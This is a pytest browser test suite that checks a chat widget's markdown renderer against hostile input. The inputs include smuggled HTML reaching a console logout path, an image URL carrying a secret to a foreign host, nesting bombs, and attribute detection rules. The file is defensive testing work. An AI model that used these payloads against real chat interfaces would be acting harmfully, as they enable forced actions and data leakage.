"""Issue 10 in Chromium: nothing smuggled past the renderer, nothing an answer, a setting or stored data
holds can stop the page, foreign images wait for a click, and every render step stays in budget.

The hostile corpora live in tests/data/hostile/ so they can grow. CSP is bypassed (see conftest.py):
the client must hold on its own; a request log shows anything that would have been fetched."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.support.chat_page import Chat, new_context
from tests.support.fixtures import REPO_ROOT as REPO
from tests.support.hooks import DEMO_APP, DEMO_HOOK, FAST
from tests.support.page_html import patch_config

pytestmark = pytest.mark.browser

HOSTILE = Path(__file__).resolve().parent.parent / "data" / "hostile"
SMUGGLING = json.loads((HOSTILE / "smuggling.json").read_text(encoding="utf-8"))["payloads"]
TRANSCRIPTS = {c["name"]: c for c in json.loads((HOSTILE / "transcripts.json").read_text(encoding="utf-8"))["cases"]}
SLOW = json.loads((HOSTILE / "slow-markdown.json").read_text(encoding="utf-8"))["cases"]
BOMBS = [">" * 2500 + " x", "- " * 2500 + "x", "* " * 2500 + "x"]

# What may appear inside an answer: the sanitizer's allow-list plus the page's own wrappers.
RENDERED_TAGS = {"P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI"}
RENDERED_TAGS |= {"H1", "H2", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "IMG"}
RENDERED_TAGS |= {"DIV", "BUTTON"}
# Issue 13: the inline HTML of Dify's answer dialect (docs/answer-dialect.md), and a non-https image's words.
RENDERED_TAGS |= {"DETAILS", "SUMMARY", "SUB", "SUP", "KBD", "MARK", "U", "S", "SPAN"}
URL_ATTRS = "href src srcset background poster action formaction cite xlink:href data ping".split()
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
)


def requests_log(page) -> list[str]:
    log: list[str] = []
    page.on("request", lambda r: log.append(r.url))
    return log


def foreign_or_console(log: list[str], origin: str) -> list[str]:
    """Requests an answer must never cause: Dify console paths, /files/ guesses, any other origin."""
    out = []
    for url in log:
        parts = urlsplit(url)
        if parts.scheme in ("data", "blob"):
            continue
        if parts.path == "/favicon.ico":
            continue  # the browser's own
        if f"{parts.scheme}://{parts.netloc}" != origin or not parts.path.startswith("/e/"):
            out.append(url)
    return out


def answer_problems(page) -> list[str]:
    """Elements or attributes in answers and the welcome that the renderer never makes."""
    return page.evaluate(
        """([tags, urlAttrs]) => {
          const out = [];
          for (const root of document.querySelectorAll('[data-cs-answer], [data-cs-welcome]'))
            for (const e of root.querySelectorAll('*')) {
              if (!tags.includes(e.tagName)) out.push('tag ' + e.tagName);
              for (const a of e.attributes) {
                if (/^on/i.test(a.name) || a.name === 'style') out.push(e.tagName + ' ' + a.name);
                if (urlAttrs.includes(a.name.toLowerCase())) {
                  const ok = (e.tagName === 'A' && a.name === 'href') || (e.tagName === 'IMG' && a.name === 'src');
                  if (!ok || !/^(https:|http:|mailto:|tel:)/.test(a.value) || a.value.includes('/console/'))
                    out.push(e.tagName + ' ' + a.name + '=' + a.value);
                }
              }
            }
          return out;
        }""",
        [sorted(RENDERED_TAGS), URL_ATTRS],
    )


def origin_of(host) -> str:
    parts = urlsplit(host.url(DEMO_HOOK, "/"))
    return f"{parts.scheme}://{parts.netloc}"


def test_smuggling_payloads_through_the_demo_bot_make_no_element_and_no_request(chat, host):
    page = chat.open(DEMO_HOOK).page
    log = requests_log(page)
    chat.send("/echo " + "\n\n".join(SMUGGLING))
    answer = chat.last_bot().locator("[data-cs-answer]")
    # <kbd> is part of the dialect now; what follows it still reads as text.
    assert "<table background=/console/api/logout q=<>" in answer.inner_text()
    # Each payload alone too: marked's raw state began at the first tag of a paragraph.
    for payload in SMUGGLING[:8]:
        chat.send("/echo " + payload)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("() => window.__pwned") is None
    assert answer_problems(page) == []
    assert page.locator("dialog[open]:not(.cs-drawer):not(.cs-access), video, audio, area, marquee").count() == 0
    assert foreign_or_console(log, origin_of(host)) == []
    # Stored and shown again: still nothing.
    log.clear()
    page.reload()
    page.wait_for_selector("html[data-ready]")
    page.wait_for_load_state("networkidle")
    assert answer_problems(page) == []
    assert foreign_or_console(log, origin_of(host)) == []


@pytest.mark.parametrize("bomb", BOMBS, ids=["quotes", "dashes", "stars"])
def test_nesting_bomb_as_answer_keeps_the_page_working(chat, bomb):
    page = chat.open(DEMO_HOOK).page
    chat.send("/echo " + bomb)  # waits until the page is no longer busy
    assert "x" in chat.last_bot().locator("[data-cs-answer]").inner_text()
    chat.send("Tell me about lighthouses")
    assert chat.last_bot().locator("[data-cs-answer] table").count() == 1
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert len(chat.answers()) == 2
    assert page.locator("#cs-input").is_enabled()


def test_a_renderer_failure_shows_plain_text_emits_error_and_keeps_the_composer(browser, host):
    """Whatever else may break inside the renderer one day: forced here by failing DOMPurify's DOM call."""
    ctx = new_context(browser)
    try:
        ctx.add_init_script(
            "const make = Document.prototype.createDocumentFragment;"
            "Document.prototype.createDocumentFragment = function () {"
            " if (window.__breakRender) throw new Error('renderer broke'); return make.call(this); };"
        )
        page = ctx.new_page()
        chat = Chat(page, host).open(DEMO_HOOK)
        page.evaluate(
            "() => { window.__errors = []; document.addEventListener('chatskins:error',"
            " (e) => window.__errors.push(e.detail)); window.__breakRender = true; }"
        )
        chat.send("/echo **bold** <b>tag</b>")
        plain = chat.last_bot().locator("[data-cs-answer] .cs-md-plain")
        assert plain.inner_text() == "**bold** <b>tag</b>"
        errors = page.evaluate("() => window.__errors")
        assert errors and errors[0]["code"] == "render_failed"
        assert "plain text" in errors[0]["message"]
        page.evaluate("() => { window.__breakRender = false; }")
        chat.send("Tell me about lighthouses")
        assert chat.last_bot().locator("[data-cs-answer] table").count() == 1
    finally:
        ctx.close()


def test_nesting_bomb_as_welcome_does_not_stop_the_page(browser, host):
    ctx = new_context(browser)
    try:
        page = ctx.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        patch_config(page, {"welcome": BOMBS[0] + "\n\n" + BOMBS[1]})
        chat = Chat(page, host).open(DEMO_HOOK)
        assert "x" in page.locator("[data-cs-welcome]").inner_text()
        chat.send("Tell me about lighthouses")
        assert chat.last_bot().locator("[data-cs-answer] table").count() == 1
        assert errors == []
    finally:
        ctx.close()


def test_nesting_bomb_as_welcome_message_setting_through_the_plugin(browser, make_host):
    """The operator's welcome_message reaches the page through the real plugin and SDK runtime."""
    hook = "bombwelcome00001"
    settings = {"app": {"app_id": DEMO_APP}, "welcome_message": BOMBS[2][:3900]}
    local = make_host(
        {
            "apps": {DEMO_APP: {"backend": "demo", "speed": FAST}},
            "endpoints": [{"hook_id": hook, "name": "Bomb", "settings": settings}],
        }
    )
    ctx = new_context(browser)
    try:
        page = ctx.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        chat = Chat(page, local).open(hook)
        chat.send("hello")
        assert len(chat.answers()) == 1 and chat.answers()[0]
        assert errors == []
    finally:
        ctx.close()


def seed(page, hook: str, index: str, body: str | None) -> None:
    """Writes raw stored data for conversation c1 and makes it current, then reloads."""
    page.evaluate(
        """([prefix, index, body]) => {
          localStorage.setItem(prefix + 'conversations', index);
          if (body !== null) localStorage.setItem(prefix + 'conv:c1', body);
          localStorage.setItem(prefix + 'current', '"c1"');
        }""",
        [f"chatskins:{hook}:", index, body],
    )
    page.reload()
    page.wait_for_selector("html[data-ready]")


def test_nesting_bomb_as_stored_transcript(chat):
    page = chat.open(DEMO_HOOK).page
    body = {"messages": [{"role": "user", "text": "q"}, {"role": "bot", "text": BOMBS[0], "done": True}]}
    seed(page, DEMO_HOOK, json.dumps([{"id": "c1", "title": "bomb", "updated": 1}]), json.dumps(body))
    assert len(chat.answers()) == 1
    chat.send("Tell me about lighthouses")
    assert chat.last_bot().locator("[data-cs-answer] table").count() == 1
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert len(chat.answers()) == 2


@pytest.mark.parametrize("name", ["null and junk entries", "wrong field types", "bare message array", "index not JSON"])
def test_corrupted_transcript_loads_what_it_can(chat, name):
    case = TRANSCRIPTS[name]
    page = chat.open(DEMO_HOOK).page
    seed(page, DEMO_HOOK, case["index"], case["body"])
    if case["expect"] is not None:
        shown = page.locator(".cs-msg-user [data-cs-msg-text], .cs-msg-bot [data-cs-answer]").all_inner_texts()
        assert [s.strip() for s in shown] == case["expect"]["texts"]
    chat.send("hello")
    assert chat.last_bot().locator("[data-cs-answer]").inner_text().strip()
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert chat.answers()[-1].strip()


def test_storage_full_at_start_says_full(browser, host):
    ctx = new_context(browser)
    try:
        ctx.add_init_script(
            "Storage.prototype.setItem = function () { throw new DOMException('full', 'QuotaExceededError'); };"
        )
        page = ctx.new_page()
        Chat(page, host).open(DEMO_HOOK)
        notice = page.locator("[data-cs-notice]")
        assert notice.is_visible()
        assert "full" in notice.inner_text()
        assert "unavailable" not in notice.inner_text()
    finally:
        ctx.close()


def test_foreign_images_wait_for_a_click_own_files_and_allowed_hosts_load(browser, make_host):
    hook = "imagehosts000001"
    settings = {"app": {"app_id": DEMO_APP}, "image_hosts": "allowed.example"}
    local = make_host(
        {
            "apps": {DEMO_APP: {"backend": "demo", "speed": FAST}},
            "endpoints": [{"hook_id": hook, "name": "Images", "settings": settings}],
        }
    )
    ctx = new_context(browser)
    try:
        for name in ("allowed.example", "other.example"):
            ctx.route(f"https://{name}/**", lambda route: route.fulfill(status=200, content_type="image/png", body=PNG))
        page = ctx.new_page()
        log = requests_log(page)
        chat = Chat(page, local).open(hook)
        chat.send(
            "/echo ![ok](https://allowed.example/a.png) ![leak](https://other.example/b.png?d=secret)"
            " ![own](/files/c/file-preview?sign=s) ![console](/console/api/logout)"
        )
        answer = chat.last_bot().locator("[data-cs-answer]")
        # Lazy images are requested after layout: wait until both shown images have settled.
        page.wait_for_function(
            "() => { const imgs = [...document.querySelectorAll('[data-cs-answer] img')];"
            " return imgs.length === 2 && imgs.every((i) => i.complete); }"
        )
        page.wait_for_load_state("networkidle")
        assert any(u.startswith("https://allowed.example/a.png") for u in log)
        assert any(urlsplit(u).path == "/files/c/file-preview" for u in log)
        assert not any("other.example" in u or "/console/" in u for u in log)
        gate = answer.locator("button.cs-img-gate")
        assert gate.count() == 1
        assert gate.inner_text() == "Show image from other.example"
        assert answer.locator("img").count() == 2
        # A real button: keyboard works.
        gate.focus()
        page.keyboard.press("Enter")
        page.wait_for_function(
            "() => { const all = document.querySelectorAll('[data-cs-answer] img');"
            " return all.length === 3 && [...all].every(i => i.complete); }"
        )
        assert any(u.startswith("https://other.example/b.png") for u in log)
        assert answer.locator("button.cs-img-gate").count() == 0
        # Localized.
        page.goto(local.url(hook, "/minimal") + "?lang=ja")
        page.wait_for_selector("html[data-ready]")
        assert page.locator("button.cs-img-gate").inner_text() == "other.example の画像を表示"
    finally:
        ctx.close()


@pytest.fixture(scope="module")
def markdown_bundle() -> str:
    """static/js/markdown.js as a script exposing window.csMarkdown (the same code the page bundles)."""
    esbuild = REPO / "node_modules" / ".bin" / "esbuild"
    out = subprocess.run(
        [str(esbuild), "static/js/markdown.js", "--bundle", "--format=iife", "--global-name=csMarkdown"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


def test_every_render_step_stays_under_50_ms_of_cpu(chat, markdown_bundle):
    """Each pathological case rendered into the real page, timed in the renderer's main-thread CPU time."""
    page = chat.open(DEMO_HOOK).page
    page.add_script_tag(content=markdown_bundle)
    cdp = page.context.new_cdp_session(page)
    cdp.send("Performance.enable", {"timeDomain": "threadTicks"})

    def task_seconds() -> float:
        return next(m["value"] for m in cdp.send("Performance.getMetrics")["metrics"] if m["name"] == "TaskDuration")

    slow: dict[str, float] = {}
    for case in SLOW:
        text = case.get("before", "") + case["unit"] * case["times"] + case.get("after", "")
        text += case.get("close", "") * case["times"]
        best = float("inf")
        # Best of five: main-thread task time also counts the GC and layout work left by earlier cases.
        for _ in range(5):
            before = task_seconds()
            page.evaluate(
                """(text) => {
                  const el = document.createElement('div');
                  el.className = 'cs-md';
                  document.querySelector('[data-cs-log]').append(el);
                  csMarkdown.renderAnswer(el, text);
                  el.getBoundingClientRect();
                  el.remove();
                }""",
                text,
            )
            best = min(best, task_seconds() - before)
        if best >= 0.050:
            slow[case["name"]] = round(best * 1000, 1)
    assert slow == {}, slow
